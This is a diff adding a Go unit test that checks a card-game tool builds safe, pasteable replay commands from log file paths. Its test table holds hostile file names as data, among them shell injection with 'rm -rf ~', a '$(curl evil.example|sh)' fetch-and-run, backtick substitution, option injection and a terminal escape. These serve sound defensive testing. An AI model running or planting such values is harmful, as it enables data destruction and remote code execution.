@@ -162,3 +162,21 @@ func TestDivergedBusy(t *testing.T) {
 		}
 	})
 }
+
+// The command in a report is safe to paste, whatever the log is called.
+func TestReplayCommand(t *testing.T) {
+	for path, want := range map[string]string{
+		"/home/anna/2026-11-21-uno-ab010203-seat2.lastcard": "lastcard replay 2026-11-21-uno-ab010203-seat2.lastcard",
+		"/tmp/x; rm -rf ~.lastcard":                         "lastcard replay FILE",
+		"/tmp/$(curl evil.example|sh)-seat2.lastcard":       "lastcard replay FILE",
+		"/tmp/`id`.lastcard":                                "lastcard replay FILE",
+		"/tmp/a\nrm -rf ~\n.lastcard":                       "lastcard replay FILE",
+		"/tmp/--data=evil.lastcard":                         "lastcard replay FILE",
+		"/tmp/x\x1b[2J.lastcard":                            "lastcard replay FILE",
+		"/tmp/ü.lastcard":                                   "lastcard replay FILE",
+	} {
+		if got := replayCommand(path); got != want {
+			t.Errorf("%q: %q, want %q", path, got, want)
+		}
+	}
+}
